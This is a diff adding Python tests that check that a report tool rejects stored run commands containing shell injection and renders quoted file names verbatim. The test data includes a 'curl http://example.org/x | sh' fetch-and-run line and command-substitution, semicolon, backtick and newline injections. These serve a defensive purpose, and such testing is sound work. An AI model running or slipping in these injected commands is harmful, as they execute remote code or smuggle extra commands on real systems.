@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import html
 import json
 import os
 import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -158,6 +160,40 @@ def test_changed_verdicts_and_cards_are_found(tmp_path: Path, ask: Asking, monke
             answer = ask(words[0], root, *words[1:])
             assert (answer.code, f"{path} is not what its tables give" in answer.err) == (2, True), answer
         path.write_text(text)
+
+
+@pytest.mark.parametrize(
+    "words",
+    ["curl http://example.org/x | sh; assay run a.yaml", "assay run a.yaml; touch ran #", "assay run $(touch ran)",
+     "assay run a.yaml\ntouch ran", "assay run `touch ran`", "touch ran"],
+)  # fmt: skip
+def test_no_command_of_a_page_starts_another_program(
+    words: str, tiny_run: Path, tmp_path: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A page types the command of its run, to be copied: from a folder that somebody made, it may be any text."""
+    shutil.copytree(tiny_run, tmp_path / "tiny")
+    path = tmp_path / "tiny" / "run.json"
+    document = read_checked_json(path)
+    document["request"]["command"] = words
+    write_checked_json(path, document, sort_keys=False)
+    write_manifest(tmp_path / "tiny", {})
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))
+    answer = ask("report", tmp_path / "tiny")
+    assert (answer.code, "in place of words for a command of Assay" in answer.err) == (2, True), answer
+
+
+def test_a_command_of_a_page_with_any_name_of_a_file_is_as_it_was_typed(
+    tiny_run: Path, tmp_path: Path, ask: Asking
+) -> None:
+    shutil.copytree(tiny_run, tmp_path / "tiny")
+    document = read_checked_json(tmp_path / "tiny" / "run.json")
+    name = shlex.quote("Jane's $(study); #1 é.yaml")
+    document["request"]["command"] = typed = f"assay run ~/{name} --seeds 3"
+    write_checked_json(tmp_path / "tiny" / "run.json", document, sort_keys=False)
+    write_manifest(tmp_path / "tiny", {})
+    assert ask("report", tmp_path / "tiny").code == 0
+    text = (tmp_path / "tiny" / "report.html").read_text()
+    assert typed in html.unescape(re.sub("<[^>]*>", "", text))
 
 
 def test_a_page_without_a_run_is_said_to_be_unchecked(run_copy: Path, ask: Asking) -> None:
